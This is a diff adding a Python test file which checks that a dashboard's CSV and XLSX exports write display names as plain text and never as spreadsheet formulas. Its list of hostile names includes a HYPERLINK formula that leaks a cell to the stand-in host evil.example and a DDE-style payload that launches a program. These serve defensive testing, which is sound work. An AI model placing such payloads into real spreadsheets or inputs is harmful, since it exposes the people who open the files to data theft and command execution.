@@ -1,0 +1,41 @@
+"""Exports write every cell as text: a display name cannot become a spreadsheet formula (CSV and XLSX)."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+from openpyxl import load_workbook
+
+from bot.web.dashboard.exports import HEADER, to_csv, to_xlsx
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?leak="&A2,"Bấm vào")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+84 thủ đô",
+    "-2+3",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def rows() -> list[list[object]]:
+    return [[i, name, "telegram", "Đã gửi", 1, "", "2026-11-30 08:00:00"] for i, name in enumerate(HOSTILE)]
+
+
+def test_csv_cells_starting_like_a_formula_are_quoted_text() -> None:
+    data = to_csv(rows()).decode("utf-8-sig")
+    table = list(csv.reader(io.StringIO(data)))
+    assert table[0] == HEADER
+    assert [r[1] for r in table[1:]] == ["'" + name for name in HOSTILE]
+    assert table[1][0] == "0" and table[1][2] == "telegram"  # ordinary cells unchanged
+
+
+def test_xlsx_cells_are_strings_never_formulas() -> None:
+    book = load_workbook(io.BytesIO(to_xlsx(rows(), "Báo cáo")))
+    sheet = book.active
+    assert sheet is not None
+    names = [sheet.cell(row=r, column=2) for r in range(2, 2 + len(HOSTILE))]
+    assert all(c.data_type == "s" for c in names), [c.data_type for c in names]
+    assert [str(c.value).replace("_x000D_", "\r") for c in names] == ["'" + name for name in HOSTILE]
+    assert all(c.data_type == "s" for row in sheet.iter_rows(min_row=2) for c in row if c.value is not None)
